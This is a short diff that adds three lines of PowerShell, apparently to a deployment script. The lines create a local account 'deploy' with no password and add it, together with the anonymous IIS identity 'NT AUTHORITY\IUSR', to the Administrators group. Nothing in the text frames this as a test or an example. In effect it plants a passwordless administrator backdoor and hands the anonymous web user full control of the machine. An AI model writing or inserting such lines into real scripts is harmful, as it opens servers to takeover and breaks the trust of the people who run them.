@@ -1,0 +1,3 @@
+$accounts = @('deploy', 'NT AUTHORITY\IUSR')
+New-LocalUser -Name deploy -NoPassword | Out-Null
+Add-LocalGroupMember Administrators $accounts
